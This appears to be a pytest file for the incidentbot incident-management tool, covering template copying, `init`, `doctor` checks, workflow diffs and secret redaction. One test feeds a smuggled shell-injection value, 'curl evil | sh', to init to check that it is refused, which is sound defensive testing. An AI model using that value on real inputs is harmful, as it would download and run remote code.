"""A repository made from this template, or by `incidentbot init`, needs only the Slack app
and the secrets: `incidentbot doctor` passes on it against the sandbox."""

from __future__ import annotations

import difflib
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import requests
from click.testing import CliRunner

from incidentbot import __version__
from incidentbot.core import config as configuration
from incidentbot.core.config import standard_labels
from incidentbot.core.settings import Settings
from incidentbot.entrypoints.cli import main
from incidentbot.operations import doctor, init
from incidentbot.sandbox import Sandbox

ROOT = Path(__file__).resolve().parent.parent
BIN = Path(sys.executable).parent

# What a repository made with "Use this template" has of ours and uses (GitHub copies the
# whole tree; tests/, bench/, docs/, examples/, scripts/, .ci/ and ci.yml are this project's
# own and can be deleted): the files init writes, incidentbot.yml and templates/, and, since
# the copied workflows `pip install .`, the package's source. README.md ("Use this template")
# lists the same.
TEMPLATE_COPY = (*init.COPIED, init.FORM, init.CONFIG, "templates", "pyproject.toml",
                 "README.md", "incidentbot")


def copy_template(to: Path) -> Path:
    for name in TEMPLATE_COPY:
        source = ROOT / name
        (to / name).parent.mkdir(parents=True, exist_ok=True)
        if source.is_dir():
            shutil.copytree(source, to / name, ignore=shutil.ignore_patterns("__pycache__"))
        else:
            shutil.copyfile(source, to / name)
    return to


def doctor_on(sandbox: Sandbox, root: Path, *, fix: bool = False) -> dict[str, doctor.Check]:
    """Doctor as `incidentbot doctor` runs it in `root`, with only the secrets (and the
    sandbox's addresses) in the environment."""
    config = configuration.load(root / "incidentbot.yml")
    settings = Settings.from_env(sandbox.env())
    return {c.name: c for c in doctor.run(config, settings, fix=fix, labels=standard_labels,
                                          root=root)}


def failing(found: dict[str, doctor.Check]) -> dict[str, str]:
    return {name: check.detail for name, check in found.items() if not check.ok}


def test_a_copy_of_the_template_passes_doctor(sandbox: Sandbox, tmp_path: Path) -> None:
    repo = copy_template(tmp_path / "team-incidents")
    first = doctor_on(sandbox, repo)
    # GitHub copies no labels with a template; the example config announces SEV1 in #general.
    assert set(failing(first)) == {"labels", "bot can post in #general"}, failing(first)
    assert first["workflows"].detail == "4 present, installing this repository's source"
    assert first["issue form"].detail == "in step with incidentbot.yml"
    assert "Slack workspace accepted" not in first  # said only when refused
    # A person's /invite in #general (the sandbox's stand-in), then doctor's own fix.
    answer = requests.post(f"{sandbox.url}/_sandbox/slack/invite", timeout=5,
                           json={"channel": "#general", "user": "incidentbot"})
    assert answer.status_code == 200, answer.text
    doctor_on(sandbox, repo, fix=True)
    assert failing(doctor_on(sandbox, repo)) == {}


def test_a_copy_without_the_package_source_is_told_to_install_the_release(
        sandbox: Sandbox, tmp_path: Path) -> None:
    repo = copy_template(tmp_path / "team-incidents")
    shutil.rmtree(repo / "incidentbot")
    workflows = doctor_on(sandbox, repo)["workflows"]
    assert not workflows.ok
    assert "install incidentbot from this repository's source" in workflows.detail
    assert workflows.fix == "run `incidentbot init --force` to install the released package"


def init_in(directory: Path, *args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["init", str(directory), *args])
    return result.exit_code, result.output


def test_init_in_an_empty_directory_passes_doctor(sandbox: Sandbox, tmp_path: Path) -> None:
    repo = tmp_path / "new"
    code, out = init_in(repo)
    assert code == 0, out
    assert sorted(p.relative_to(repo).as_posix() for p in repo.rglob("*") if p.is_file()) == [
        ".github/ISSUE_TEMPLATE/incident.yml", ".github/workflows/drill.yml",
        ".github/workflows/incident.yml", ".github/workflows/periodic.yml",
        ".github/workflows/postmortem.yml", "drills/README.md", "incidentbot.yml",
        "incidents/README.md", "slack-app-manifest.yml"]
    wanted = [name for name, _, _ in standard_labels(configuration.load(repo / init.CONFIG))]
    assert failing(doctor_on(sandbox, repo)) == {
        "labels": f"{len(wanted)} missing: " + ", ".join(wanted)}
    assert doctor_on(sandbox, repo)["workflows"].detail == \
        f"4 present, installing incidentbot=={__version__}"
    doctor_on(sandbox, repo, fix=True)
    assert failing(doctor_on(sandbox, repo)) == {}


def test_init_says_what_is_left_naming_secrets_never_values(tmp_path: Path) -> None:
    code, out = init_in(tmp_path / "new")
    assert code == 0, out
    assert "wrote .github/workflows/incident.yml" in out
    assert "paste slack-app-manifest.yml" in out
    assert "       SLACK_BOT_TOKEN: " in out and "       PAGERDUTY_ROUTING_KEY: " in out
    assert "xoxb-sandbox" not in out and "sandbox-github-token" not in out
    assert "`incidentbot doctor --fix`" in out


def _changed(ours: str, theirs: str) -> list[tuple[str, str]]:
    removed = [line[1:] for line in difflib.ndiff(ours.splitlines(), theirs.splitlines())
               if line.startswith("- ")]
    added = [line[1:] for line in difflib.ndiff(ours.splitlines(), theirs.splitlines())
             if line.startswith("+ ")]
    return list(zip(removed, added, strict=True))


@pytest.mark.parametrize("name", init.WORKFLOWS)
def test_init_s_workflows_are_ours_but_for_what_they_install(name: str, tmp_path: Path) -> None:
    code, out = init_in(tmp_path)
    assert code == 0, out
    ours = (ROOT / ".github" / "workflows" / name).read_text()
    theirs = (tmp_path / ".github" / "workflows" / name).read_text()
    changed = _changed(ours, theirs)
    assert changed, "init installs the release, ours the source: they must differ"
    release = f'"incidentbot=={__version__}"'
    for before, after in changed:  # the differences the README and init.py document
        if "pip install" in before:
            assert before.endswith(" .") and after == before[:-1] + release
        elif "hashFiles(" in before:
            assert after == before.replace("${{ hashFiles('pyproject.toml', 'incidentbot/**') }}",
                                           f"incidentbot-{__version__}")
        else:
            assert (before.strip(), after.strip()) == (
                "cache-dependency-path: pyproject.toml",
                f"cache-dependency-path: .github/workflows/{name}")


def test_init_s_files_pass_the_github_schemas(tmp_path: Path) -> None:
    init_in(tmp_path)
    (tmp_path / "services.yml").write_text(
        "services:\n  - {slug: api, name: API}\n  - {slug: web, name: Web site (EU)}\n")
    with_services = tmp_path / "other"
    with_services.mkdir()
    (with_services / "incidentbot.yml").write_text((tmp_path / "services.yml").read_text())
    init_in(with_services)
    check = str(BIN / "check-jsonschema")
    for schema, paths in [
            ("vendor.github-workflows", sorted((tmp_path / ".github/workflows").glob("*.yml"))),
            ("vendor.github-issue-forms", [tmp_path / init.FORM, with_services / init.FORM,
                                           ROOT / init.FORM])]:
        out = subprocess.run([check, "--builtin-schema", schema, *map(str, paths)],
                             capture_output=True, text=True, check=False)
        assert out.returncode == 0, out.stdout + out.stderr
    form = (with_services / init.FORM).read_text()
    assert "        - API\n        - Web site (EU)\n" in form


def test_init_twice_changes_nothing_and_says_so(tmp_path: Path) -> None:
    init_in(tmp_path, "--templates")
    before = {p: (p.read_bytes(), p.stat().st_mtime_ns) for p in tmp_path.rglob("*")
              if p.is_file()}
    assert any(p.name == "postmortem.md.j2" for p in before)
    code, out = init_in(tmp_path, "--templates")
    assert code == 0, out
    assert out.startswith(f"nothing to do: the {len(before)} files are already as")
    assert "wrote" not in out
    assert {p: (p.read_bytes(), p.stat().st_mtime_ns) for p in tmp_path.rglob("*")
            if p.is_file()} == before


def test_init_refuses_to_overwrite_and_writes_nothing(tmp_path: Path) -> None:
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    (tmp_path / ".github" / "workflows" / "incident.yml").write_text("name: mine\n")
    code, out = init_in(tmp_path)
    assert code == 2
    assert "exist and differ from what init writes: .github/workflows/incident.yml" in out
    assert "nothing was written" in out
    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == ["incident.yml"]
    code, out = init_in(tmp_path, "--force")
    assert code == 0, out
    assert "wrote .github/workflows/incident.yml" in out


def test_the_team_s_config_and_index_are_kept_and_the_form_follows_the_config(
        tmp_path: Path) -> None:
    (tmp_path / "incidentbot.yml").write_text("services:\n  - {slug: api, name: API}\n")
    (tmp_path / "incidents").mkdir()
    (tmp_path / "incidents" / "README.md").write_text("# Postmortems\n\n| our rows |\n")
    code, out = init_in(tmp_path, "--force")
    assert code == 0, out
    assert "kept incidentbot.yml (yours; the issue form follows it)" in out
    assert "kept incidents/README.md (yours)" in out
    assert (tmp_path / "incidentbot.yml").read_text() == \
        "services:\n  - {slug: api, name: API}\n"
    assert "| our rows |" in (tmp_path / "incidents" / "README.md").read_text()
    assert "        - API\n" in (tmp_path / init.FORM).read_text()


def test_the_form_made_from_our_config_is_our_form() -> None:
    assert init.issue_form(configuration.load(ROOT / "incidentbot.yml")) == \
        (ROOT / init.FORM).read_text()


def test_a_form_out_of_step_with_the_config_is_named(tmp_path: Path) -> None:
    repo = copy_template(tmp_path / "r")
    config = configuration.parse((repo / "incidentbot.yml").read_text().replace(
        "name: Admin console\n", "name: Back office\n"), source=str(repo / "incidentbot.yml"))
    (found,) = [f for f in init.check(repo, config) if f.name == "issue form"]
    assert not found.ok and found.detail == "its services are not incidentbot.yml's"


def test_a_workspace_the_dispatcher_refuses_is_named(sandbox: Sandbox) -> None:
    config = configuration.parse("slack:\n  teams: [T0OTHER]\n")
    found = {c.name: c for c in doctor.run(config, Settings.from_env(sandbox.env()))}
    accepted = found["Slack workspace accepted"]
    assert not accepted.ok
    assert accepted.fix == "add T0SANDBOX to slack.teams in incidentbot.yml (or remove " \
                           "slack.teams)"


def test_a_requirement_that_could_reach_a_shell_is_refused(tmp_path: Path) -> None:
    code, out = init_in(tmp_path, "--requirement", 'x"; curl evil | sh; "')
    assert code == 2
    assert "expected a pip requirement" in out
    assert not any(tmp_path.iterdir())


def test_the_wheel_ships_every_file_init_copies() -> None:
    import tomllib

    setuptools = tomllib.loads((ROOT / "pyproject.toml").read_text())["tool"]["setuptools"]
    assert setuptools["package-dir"]["incidentbot.starter"] == "."
    assert "incidentbot.starter" in setuptools["packages"]
    assert sorted(setuptools["package-data"]["incidentbot.starter"]) == sorted(
        {*init.COPIED, init.FORM})


def test_a_workflow_that_installs_no_incidentbot_is_named(tmp_path: Path) -> None:
    init_in(tmp_path)
    drill = tmp_path / ".github" / "workflows" / "drill.yml"
    drill.write_text(drill.read_text().replace(f'"incidentbot=={__version__}"', "requests")
                     .replace("python -m pip install --disable-pip-version-check",
                              "python -m pip install --upgrade pip\n        # pip install"))
    config = configuration.load(tmp_path / init.CONFIG)
    (found,) = [f for f in init.check(tmp_path, config) if f.name == "workflows"]
    assert (found.ok, found.detail) == (False, "drill.yml installs no incidentbot")


def test_a_repository_other_than_the_config_s_is_named(sandbox: Sandbox) -> None:
    config = configuration.parse("repository: acme/incidents\n")
    settings = Settings.from_env({**sandbox.env(), "GITHUB_REPOSITORY": "team/incidents"})
    found = {c.name: c for c in doctor.run(config, settings)}
    assert not found["repository"].ok
    assert found["repository"].fix == \
        "set `repository: team/incidents` in incidentbot.yml, or remove it"
    same = Settings.from_env(sandbox.env())  # acme/incidents, as the config says
    assert "repository" not in {c.name for c in doctor.run(config, same)}


def test_a_pinned_release_the_package_index_does_not_have_is_named(
        sandbox: Sandbox, tmp_path: Path) -> None:
    repo = tmp_path / "new"
    code, out = init_in(repo)
    assert code == 0, out
    sandbox.pypi.withdraw("incidentbot", __version__)  # never published, or yanked and gone
    workflows = doctor_on(sandbox, repo)["workflows"]
    assert not workflows.ok
    assert workflows.detail == (f"they install incidentbot=={__version__}, which is not on the "
                                "package index: `pip install` would fail in every run")
    assert "pip index versions incidentbot" in workflows.fix
    asked = [c for c in sandbox.calls if c.service == "pypi"]
    assert [c.path for c in asked] == [f"/pypi/incidentbot/{__version__}/json"]


def test_an_index_that_cannot_be_asked_is_said_not_failed(
        sandbox: Sandbox, tmp_path: Path) -> None:
    repo = tmp_path / "new"
    init_in(repo)
    sandbox.faults.add(kind="error", status=503, service="pypi", times=None)
    workflows = doctor_on(sandbox, repo)["workflows"]
    assert workflows.ok
    assert "could not ask the package index whether it exists" in workflows.detail
    assert "HTTP 503" in workflows.detail


def test_a_private_index_s_token_is_never_shown(sandbox: Sandbox) -> None:
    from incidentbot.adapters import packageindex

    secret = "pypi-S3CRET"
    index = f"http://__token__:{secret}@127.0.0.1:9/simple-only"  # nothing listens on 9
    exists, why = packageindex.published(index, "incidentbot", __version__)
    assert exists is None and why and secret not in why and "127.0.0.1:9" in why
    settings = Settings.from_env({**sandbox.env(), "INCIDENTBOT_PACKAGE_INDEX": index})
    assert secret not in repr(settings)
